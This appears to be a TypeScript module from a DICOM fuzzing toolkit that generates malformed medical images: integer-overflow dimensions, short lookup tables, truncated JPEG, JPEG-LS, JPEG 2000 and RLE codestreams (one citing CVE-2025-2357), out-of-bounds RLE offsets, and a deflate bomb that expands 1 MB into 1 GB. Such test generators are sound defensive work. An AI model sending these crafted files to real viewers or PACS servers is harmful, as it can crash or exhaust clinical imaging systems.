import { constants, deflateRawSync } from 'node:zlib';
import { encodeElements } from '@leadglass/dicom';
import { jpegLossless, rle } from './codestreams.ts';
import { type Change, inObject, lying, type ObjectAttack, PICTURE, SECONDARY_CAPTURE } from './made.ts';
import { el, type Image, pixelsOf, TRANSFER } from './object.ts';

// Attacks that are in pictures: arithmetic, codestreams, bombs, and what viewers draw over them.

export const SYNTAX = {
  jpeg: '1.2.840.10008.1.2.4.50',
  jpegLossless: '1.2.840.10008.1.2.4.70',
  jpegLs: '1.2.840.10008.1.2.4.80',
  jpeg2000: '1.2.840.10008.1.2.4.90',
  rle: '1.2.840.10008.1.2.5',
} as const;

const TINY = Buffer.alloc(64);
const arithmetic = (fr: string, en: string, elements: Change['elements'] = [], pixels: Buffer = TINY) =>
  inObject('B10', fr, en, { elements, pixels, isInPixels: true });

const NUMBERS: readonly ObjectAttack[] = [
  arithmetic('65 535 × 65 535 pixels, 64 octets', '65,535 × 65,535 pixels in 64 bytes', [
    el(0x00280010, 65_535),
    el(0x00280011, 65_535),
  ]),
  arithmetic('lignes × colonnes × images débordent 32 bits', 'rows × columns × frames overflow 32 bits', [
    el(0x00280008, '65536'),
    el(0x00280010, 256),
    el(0x00280011, 256),
  ]),
  arithmetic('moins de pixels qu’annoncé', 'fewer pixels than declared', [], Buffer.alloc(4_096)),
  arithmetic(
    'un High Bit au-delà des bits alloués',
    'a High Bit beyond the bits allocated',
    [el(0x00280102, 60)],
    Buffer.alloc(8_192),
  ),
  arithmetic('Bits Allocated nul', 'Bits Allocated of zero', [el(0x00280100, 0)], Buffer.alloc(8_192)),
  arithmetic('65 535 échantillons par pixel', '65,535 samples a pixel', [el(0x00280002, 65_535)], Buffer.alloc(8_192)),
  arithmetic('un nombre d’images négatif', 'a negative number of frames', [el(0x00280008, '-1')], Buffer.alloc(8_192)),
  inObject('B10', 'une palette plus courte qu’annoncé', 'a palette shorter than declared', {
    image: { ...PICTURE, allocated: 8, stored: 8, photometric: 'PALETTE COLOR' },
    elements: [0x1101, 0x1102, 0x1103].flatMap((at) => [
      el(0x00280000 + at, [0, 0, 16], 'US'),
      el(0x00280000 + at + 0x100, Buffer.alloc(16), 'OW'),
    ]),
    isInPixels: true,
  }),
  inObject('B10', 'une table de VOI plus courte qu’annoncé', 'a VOI table shorter than declared', {
    elements: [el(0x00283010, [[el(0x00283002, [65_535, 0, 16], 'US'), el(0x00283006, Buffer.alloc(8), 'OW')]])],
  }),
];

/** What a viewer draws beside the picture, larger than it is. */
const DRAWN: readonly ObjectAttack[] = [
  inObject('B20', 'un calque de 65 535 × 65 535 en 8 octets', 'an overlay of 65,535 × 65,535 in 8 bytes', {
    elements: [
      el(0x60000010, 65_535),
      el(0x60000011, 65_535),
      el(0x60000040, 'G', 'CS'),
      el(0x60000050, [1, 1], 'SS'),
      el(0x60000100, 1),
      el(0x60000102, 0),
      el(0x60003000, Buffer.alloc(8), 'OW'),
    ],
  }),
  inObject('B20', 'une table segmentée qui tourne sans fin', 'a segmented table that runs without end', {
    image: { ...PICTURE, allocated: 8, stored: 8, photometric: 'PALETTE COLOR' },
    elements: [0x1101, 0x1102, 0x1103].flatMap((at) => [
      el(0x00280000 + at, [256, 0, 16], 'US'),
      el(0x00281220 + (at & 0xf), [2, 65_535, 0, 0], 'OW'),
    ]),
    isInPixels: true,
  }),
  inObject('B20', 'une courbe de 4 milliards d’échantillons', 'a waveform of 4 billion samples', {
    sopClassUid: '1.2.840.10008.5.1.4.1.1.9.1.2',
    pixels: 'none',
    elements: [
      el(0x54000100, [
        [
          el(0x003a0004, 'ORIGINAL'),
          el(0x003a0005, 65_535),
          el(0x003a0010, 0xffffffff),
          el(0x003a001a, '500'),
          el(0x54001004, 16),
          el(0x54001006, 'SS'),
          el(0x54001010, Buffer.alloc(16), 'OW'),
        ],
      ]),
    ],
  }),
];

const BYTES: Image = { ...PICTURE, allocated: 8, stored: 8 };
const EMPTY = Buffer.alloc(0);

/** A picture of one fragment in a compressed syntax. */
const coded = (
  bugClass: 'B11' | 'B12',
  fr: string,
  en: string,
  transferSyntaxUid: string,
  fragments: readonly Buffer[],
  image: Image = BYTES,
): ObjectAttack =>
  inObject(bugClass, fr, en, {
    ...{ transferSyntaxUid, image, sopClassUid: SECONDARY_CAPTURE, isInPixels: true },
    pixels: [EMPTY, ...fragments],
  });

/** A baseline JPEG as far as its scan, without a table in it (ISO 10918-1 §B.2). */
function jpegOf(rows: number, columns: number): Buffer {
  const frame = Buffer.from('ffd8ffc0000b080000000001011100ffda0008010100003f0000000000ffd9', 'hex');
  frame.writeUInt16BE(rows, 7);
  frame.writeUInt16BE(columns, 9);
  return frame;
}

/** A JPEG 2000 codestream that is nothing but its size (ISO 15444-1 §A.5.1): tiles of one pixel. */
function j2kOf(width: number, height: number, tile: number): Buffer {
  const bytes = Buffer.alloc(49 + 4);
  bytes.writeUInt16BE(0xff4f, 0);
  bytes.writeUInt16BE(0xff51, 2);
  bytes.writeUInt16BE(41, 4);
  bytes.writeUInt32BE(width, 8);
  bytes.writeUInt32BE(height, 12);
  bytes.writeUInt32BE(tile, 24);
  bytes.writeUInt32BE(tile, 28);
  bytes.writeUInt16BE(1, 40);
  bytes.set([7, 1, 1], 42);
  bytes.writeUInt16BE(0xffd9, 45);
  return bytes;
}

/** An RLE frame (PS3.5 Annex G) whose header says what it likes. */
function rleOf(segments: number, firstOffset: number, data: Buffer = Buffer.from([0x81, 0])): Buffer {
  const header = Buffer.alloc(64);
  header.writeUInt32LE(segments, 0);
  header.writeUInt32LE(firstOffset, 4);
  return Buffer.concat([header, data]);
}

const half = (codestream: Buffer): Buffer => codestream.subarray(0, codestream.length & ~1).subarray(0, 200);

const CODESTREAMS: readonly ObjectAttack[] = [
  coded('B11', 'un JPEG sans table de Huffman', 'a JPEG without Huffman tables', SYNTAX.jpeg, [jpegOf(64, 64)]),
  coded('B11', 'un JPEG qui dit une autre taille', 'a JPEG that says another size', SYNTAX.jpeg, [jpegOf(640, 64)]),
  coded('B11', 'un JPEG qui est du bruit', 'a JPEG that is noise', SYNTAX.jpeg, [Buffer.alloc(400, 0x5a)]),
  inObject('B11', 'un JPEG sans perte coupé', 'a lossless JPEG cut short', ({ random }) => ({
    transferSyntaxUid: SYNTAX.jpegLossless,
    image: PICTURE,
    pixels: [EMPTY, half(jpegLossless(PICTURE, pixelsOf(random, PICTURE)))],
    isInPixels: true,
  })),
  coded('B11', 'un JPEG-LS coupé (CVE-2025-2357)', 'a JPEG-LS cut short (CVE-2025-2357)', SYNTAX.jpegLs, [
    Buffer.from('ffd8fff7000b080040004001011100', 'hex'),
  ]),
  coded('B11', 'un JPEG 2000 en tuiles d’un pixel', 'a JPEG 2000 in tiles of one pixel', SYNTAX.jpeg2000, [
    j2kOf(65_535, 65_535, 1),
  ]),
  coded('B11', 'un segment RLE hors des données', 'an RLE segment outside the data', SYNTAX.rle, [
    rleOf(1, 0xfffffff0),
  ]),
  coded('B11', 'un en-tête RLE de 255 segments', 'an RLE header of 255 segments', SYNTAX.rle, [rleOf(255, 64)]),
  inObject('B11', 'une table d’index qui sort des données', 'an offset table that leads outside', ({ random }) => ({
    transferSyntaxUid: SYNTAX.rle,
    image: { ...BYTES, frames: 2 },
    sopClassUid: `${SECONDARY_CAPTURE}.2`,
    pixels: [
      Buffer.from('00000000f0ffffff', 'hex'),
      rle(BYTES, pixelsOf(random, BYTES)),
      rle(BYTES, pixelsOf(random, BYTES)),
    ],
    isInPixels: true,
  })),
];

const BIG: Image = { ...BYTES, rows: 65_500, columns: 65_500 };
const MEGABYTE = 2 ** 20;
const BOMB_MEGABYTES = 1024;

/** A piece of deflate that ends on a byte and refers to nothing before it, so that it may be repeated. */
const packed = (bytes: Uint8Array): Buffer => deflateRawSync(bytes, { level: 9, finishFlush: constants.Z_FULL_FLUSH });

/** 1 GB of zeros as pixels, in one megabyte of deflate: a megabyte packed once and said 1024 times. */
function bomb(sopInstanceUid: string): Buffer {
  const named = [el(0x00080016, SECONDARY_CAPTURE), el(0x00080018, sopInstanceUid)];
  const head = [encodeElements(named, TRANSFER.explicit), lying(0x7fe00010, 'OW', BOMB_MEGABYTES * MEGABYTE)];
  const zeros = packed(Buffer.alloc(MEGABYTE));
  const many = Array.from({ length: BOMB_MEGABYTES }, () => zeros);
  const bytes = Buffer.concat([packed(Buffer.concat(head)), ...many, Buffer.from([3, 0])]);
  return bytes.length % 2 === 0 ? bytes : Buffer.concat([bytes, Buffer.alloc(1)]);
}

const BOMBS: readonly ObjectAttack[] = [
  inObject('B12', '1 Go de zéros dans 1 Mo de données compressées', '1 GB of zeros in 1 MB of deflated data', {
    transferSyntaxUid: TRANSFER.deflated,
    sopClassUid: SECONDARY_CAPTURE,
    bend: (_, sopInstanceUid) => bomb(sopInstanceUid),
    isInPixels: true,
  }),
  coded('B12', 'un JPEG de 65 500 × 65 500', 'a JPEG of 65,500 × 65,500', SYNTAX.jpeg, [jpegOf(65_500, 65_500)], BIG),
  coded('B12', 'un JPEG 2000 de 4 milliards de pixels de côté', 'a JPEG 2000 4 billion pixels wide', SYNTAX.jpeg2000, [
    j2kOf(0xffffffff, 0xffffffff, 0xffffffff),
  ]),
  coded(
    'B12',
    'un RLE de 65 500 × 65 500 en 66 octets',
    'an RLE of 65,500 × 65,500 in 66 bytes',
    SYNTAX.rle,
    [rleOf(1, 64)],
    BIG,
  ),
];

/** Every attack that is in pictures. */
export const PIXEL_ATTACKS: readonly ObjectAttack[] = [...NUMBERS, ...DRAWN, ...CODESTREAMS, ...BOMBS];
